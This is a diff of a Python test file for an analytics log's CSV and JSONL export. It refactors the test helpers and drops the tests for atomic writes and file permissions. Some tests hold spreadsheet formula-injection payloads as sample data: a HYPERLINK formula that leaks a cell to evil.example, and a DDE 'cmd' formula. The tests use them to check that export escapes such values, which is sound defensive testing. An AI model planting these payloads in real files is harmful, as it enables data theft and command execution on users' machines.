@@ -5,10 +5,8 @@ from __future__ import annotations
 import csv
 import io
 import json
-import os
 import re
-import stat
-from collections.abc import AsyncIterator, Iterable
+from collections.abc import AsyncIterator
 from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -19,8 +17,9 @@ import pytest
 from analytics.contents import CHUNK, count_questions, read_records
 from analytics.database import Database
 from analytics.events import Asked, Event, Opened, Rated, RatingSource, Shown
-from analytics.export import CSV_COLUMNS, ExportFormat, export, safe_cell, whole_file
-from analytics.log import Pace, QueryLog
+from analytics.export import CSV_COLUMNS, ExportFormat, export, safe_cell
+from analytics.log import QueryLog
+from tests.fakes.query_log import record
 
 PAGE = Path(__file__).resolve().parent.parent.parent / "docs" / "export.md"
 
@@ -77,24 +76,11 @@ EXAMPLE_EVENTS: tuple[Event, ...] = (
 
 
 @pytest.fixture
-async def log(log_url: str) -> AsyncIterator[QueryLog]:
-    log = await QueryLog.open(log_url, Pace(gather_s=0))
-    yield log
-    await log.close()
-
-
-@pytest.fixture
 async def database(log: QueryLog, log_url: str) -> AsyncIterator[Database]:
     """The log as the command opens it, while the server has it open."""
     database = await Database.open_to_read(log_url)
     yield database
     await database.close()
-
-
-async def record(log: QueryLog, events: Iterable[Event]) -> None:
-    for event in events:
-        log.record(event)
-    await log.flush()
 
 
 def numbered(n: int, **changes: Any) -> Asked:
@@ -126,7 +112,7 @@ def documented(heading: str) -> dict[str, tuple[str, str]]:
 
 async def test_a_csv_row_is_what_the_page_says(log: QueryLog, database: Database) -> None:
     """Every column, in its order, with its type and its example."""
-    await record(log, EXAMPLE_EVENTS)
+    await record(log, *EXAMPLE_EVENTS)
     (row,) = await as_csv(database)
     page = documented("CSV")
     assert list(page) == [name for name in CSV_COLUMNS if not re.match("result_[23]_", name)]
@@ -137,7 +123,7 @@ async def test_a_csv_row_is_what_the_page_says(log: QueryLog, database: Database
 
 
 async def test_a_json_line_is_what_the_page_says(log: QueryLog, database: Database) -> None:
-    await record(log, EXAMPLE_EVENTS)
+    await record(log, *EXAMPLE_EVENTS)
     (line,) = await as_jsonl(database)
     example = PAGE.read_text().partition("```json\n")[2].partition("```")[0]
     assert line == json.loads(example)
@@ -149,7 +135,7 @@ async def test_a_json_line_is_what_the_page_says(log: QueryLog, database: Databa
 
 
 async def test_further_results_have_the_same_columns(log: QueryLog, database: Database) -> None:
-    await record(log, EXAMPLE_EVENTS)
+    await record(log, *EXAMPLE_EVENTS)
     (row,) = await as_csv(database)
     second = {name[9:]: value for name, value in row.items() if name.startswith("result_2_")}
     assert second == {
@@ -167,7 +153,7 @@ async def test_further_results_have_the_same_columns(log: QueryLog, database: Da
 
 async def test_a_table_counts_more_results_than_it_shows(log: QueryLog, database: Database) -> None:
     shown = tuple(replace(EXAMPLE.shown[0], rank=rank, title=f"No. {rank}") for rank in range(1, 6))
-    await record(log, [replace(EXAMPLE, shown=shown), Opened(EXAMPLE.query_id, 5, ASKED_AT)])
+    await record(log, replace(EXAMPLE, shown=shown), Opened(EXAMPLE.query_id, 5, ASKED_AT))
     (row,) = await as_csv(database)
     assert (row["results_shown"], row["result_3_title"], row["openings"]) == ("5", "No. 3", "1")
     (line,) = await as_jsonl(database)
@@ -180,7 +166,7 @@ async def test_a_table_counts_more_results_than_it_shows(log: QueryLog, database
 async def test_a_question_that_nothing_answered_has_empty_cells(
     log: QueryLog, database: Database
 ) -> None:
-    await record(log, [replace(EXAMPLE, outcome="nothing_validated", shown=(), top_score=0.1)])
+    await record(log, replace(EXAMPLE, outcome="nothing_validated", shown=(), top_score=0.1))
     (row,) = await as_csv(database)
     assert row["results_shown"] == "0"
     assert {value for name, value in row.items() if name.startswith("result_")} == {""}
@@ -197,7 +183,7 @@ async def test_ratings_are_counted_and_comments_kept_in_their_order(
         return Rated(asker, helpful, RatingSource.CARD, at, EXAMPLE.query_id, comment=comment)
 
     late, early = rated("a", True, "=late, and\nlong", 9), rated("b", False, "early", 1)
-    await record(log, [EXAMPLE, late, early, rated("c", True, "", 5)])
+    await record(log, EXAMPLE, late, early, rated("c", True, "", 5))
     (row,) = await as_csv(database)
     assert (row["helpful"], row["not_helpful"]) == ("2", "1")
     assert row["comments"] == "early\n=late, and\nlong"
@@ -212,8 +198,8 @@ async def test_ratings_are_counted_and_comments_kept_in_their_order(
 async def test_ratings_and_openings_of_no_question_are_nobodys_row(
     log: QueryLog, database: Database
 ) -> None:
-    await record(log, [EXAMPLE, Opened("lost", 1, ASKED_AT), EXAMPLE_EVENTS[2]])
-    await record(log, [replace(EXAMPLE_EVENTS[2], reply_key="lost")])  # type: ignore[type-var]
+    await record(log, EXAMPLE, Opened("lost", 1, ASKED_AT), EXAMPLE_EVENTS[2])
+    await record(log, replace(EXAMPLE_EVENTS[2], reply_key="lost"))  # type: ignore[type-var]
     (row,) = await as_csv(database)
     assert (row["query_id"], row["openings"], row["helpful"]) == (EXAMPLE.query_id, "0", "1")
 
@@ -233,7 +219,7 @@ async def test_any_text_comes_back_as_it_was_asked(
     log: QueryLog, database: Database, text: str
 ) -> None:
     """In one cell, in one line."""
-    await record(log, [replace(EXAMPLE, text=text)])
+    await record(log, replace(EXAMPLE, text=text))
     assert [row["text"] for row in await as_csv(database)] == [text]
     assert [line["text"] for line in await as_jsonl(database)] == [text]
 
@@ -243,7 +229,7 @@ async def test_no_text_column_begins_a_formula(
     log: QueryLog, database: Database, field: str
 ) -> None:
     attack = '=HYPERLINK("https://evil.example?"&A1,"open")'
-    await record(log, [replace(EXAMPLE, **{field: attack})])
+    await record(log, replace(EXAMPLE, **{field: attack}))
     (row,) = await as_csv(database)
     assert row[field] == "'" + attack
     (line,) = await as_jsonl(database)
@@ -253,14 +239,14 @@ async def test_no_text_column_begins_a_formula(
 @pytest.mark.parametrize("field", ["resource_id", "title", "place", "url"])
 async def test_no_result_begins_a_formula(log: QueryLog, database: Database, field: str) -> None:
     shown = replace(EXAMPLE.shown[0], **{field: "@SUM(1+1)*cmd|' /C calc'!A0"})
-    await record(log, [replace(EXAMPLE, shown=(shown,))])
+    await record(log, replace(EXAMPLE, shown=(shown,)))
     (row,) = await as_csv(database)
     assert row[f"result_1_{field}"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
 
 
 async def test_no_comment_begins_a_formula(log: QueryLog, database: Database) -> None:
     rated = replace(EXAMPLE_EVENTS[2], comment="+1")  # type: ignore[type-var]
-    await record(log, [EXAMPLE, rated])
+    await record(log, EXAMPLE, rated)
     (row,) = await as_csv(database)
     assert row["comments"] == "'+1"
 
@@ -268,7 +254,7 @@ async def test_no_comment_begins_a_formula(log: QueryLog, database: Database) ->
 async def test_numbers_stay_numbers(log: QueryLog, database: Database) -> None:
     """A negative score begins with a minus and is no formula."""
     shown = replace(EXAMPLE.shown[0], dense_score=-0.25, lexical_score=1e-7)
-    await record(log, [replace(EXAMPLE, shown=(shown,))])
+    await record(log, replace(EXAMPLE, shown=(shown,)))
     (row,) = await as_csv(database)
     assert (row["result_1_dense_score"], row["result_1_lexical_score"]) == ("-0.25", "1e-07")
 
@@ -293,7 +279,7 @@ def test_other_texts_stay_as_they_are(text: str) -> None:
 
 async def test_since_is_in_and_until_is_out(log: QueryLog, database: Database) -> None:
     """So that periods that follow one another miss nothing and repeat nothing."""
-    await record(log, [numbered(n) for n in range(4)])
+    await record(log, *(numbered(n) for n in range(4)))
     times = [ASKED_AT + timedelta(minutes=n) for n in range(4)]
 
     async def ids(**bounds: datetime) -> list[str]:
@@ -320,8 +306,8 @@ async def test_many_questions_come_in_order_each_once_a_chunk_at_a_time(
     """Also where many were asked at the same moment, across a chunk's end."""
     count = 2 * CHUNK + 7
     same = [numbered(n, asked_at=ASKED_AT, shown=EXAMPLE.shown[:1]) for n in range(count)]
-    await record(log, reversed(same))
-    await record(log, [numbered(99_999, asked_at=ASKED_AT - timedelta(days=1))])
+    await record(log, *reversed(same))
+    await record(log, numbered(99_999, asked_at=ASKED_AT - timedelta(days=1)))
     advances: list[int] = []
     sink = io.StringIO(newline="")
     assert await export(database, sink, ExportFormat.JSONL, on_written=advances.append) == count + 1
@@ -332,52 +318,15 @@ async def test_many_questions_come_in_order_each_once_a_chunk_at_a_time(
 
 async def test_an_export_is_one_moment_of_the_log(log: QueryLog, database: Database) -> None:
     """What is recorded while it runs is in the next one, whole."""
-    await record(log, [numbered(n) for n in range(CHUNK + 5)])
+    await record(log, *(numbered(n) for n in range(CHUNK + 5)))
     found = []
     async for chunk in read_records(database):
         found += chunk
         await record(
             log,
-            [numbered(50_000 + len(found)), Opened("q01004", 1, ASKED_AT)],
+            numbered(50_000 + len(found)),
+            Opened("q01004", 1, ASKED_AT),
         )
     assert len(found) == CHUNK + 5
     assert found[-1]["openings"] == 0
     assert await count_questions(database) == CHUNK + 7
-
-
-def test_a_file_appears_when_it_is_complete(tmp_path: Path) -> None:
-    path = tmp_path / "export.csv"
-    with whole_file(path, "utf-8") as file:
-        file.write("é\r\n")
-        assert not path.exists()
-    assert path.read_bytes() == "é\r\n".encode()
-    assert [entry.name for entry in tmp_path.iterdir()] == ["export.csv"]
-
-
-@pytest.mark.parametrize("error", [ValueError, KeyboardInterrupt, BrokenPipeError])
-def test_a_failure_leaves_what_was_there(tmp_path: Path, error: type[BaseException]) -> None:
-    path = tmp_path / "export.csv"
-    path.write_text("the last one")
-    with pytest.raises(error), whole_file(path, "utf-8") as file:
-        file.write("half")
-        raise error
-    assert path.read_text() == "the last one"
-    assert [entry.name for entry in tmp_path.iterdir()] == ["export.csv"]
-
-
-def test_only_the_user_who_exports_can_read_it(tmp_path: Path) -> None:
-    umask = os.umask(0)
-    try:
-        with whole_file(tmp_path / "export.csv", "utf-8") as file:
-            file.write("personal")
-    finally:
-        os.umask(umask)
-    assert stat.S_IMODE((tmp_path / "export.csv").stat().st_mode) == 0o600
-
-
-def test_a_folder_that_cannot_be_written_is_named(tmp_path: Path) -> None:
-    with (
-        pytest.raises(FileNotFoundError, match="nowhere"),
-        whole_file(tmp_path / "nowhere" / "export.csv", "utf-8"),
-    ):
-        pass
